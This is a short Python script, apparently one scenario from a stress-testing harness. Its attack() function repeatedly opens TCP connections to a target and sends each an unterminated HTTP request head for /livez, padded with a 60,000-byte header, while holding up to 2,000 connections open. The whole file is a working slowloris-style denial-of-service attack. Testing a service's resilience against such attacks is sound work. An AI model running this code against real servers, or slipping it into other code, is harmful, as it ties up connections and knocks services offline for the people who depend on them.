"""Sends request heads that do not end, without an access token."""

import socket

TOKENS = True
SECONDS = 10
WORKERS = 2
OPEN_MAX = 2_000
HEAD = b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 60_000


def attack(target):
    sent = 0
    open_now = []
    while not target.has_ended():
        try:
            connection = socket.create_connection((target.address, target.port), timeout=5)
            connection.settimeout(1)
            connection.sendall(HEAD)
            open_now.append(connection)
            sent += 1
        except OSError:
            pass
        if len(open_now) > OPEN_MAX:
            open_now.pop(0).close()
    return f"{sent} heads without an end"
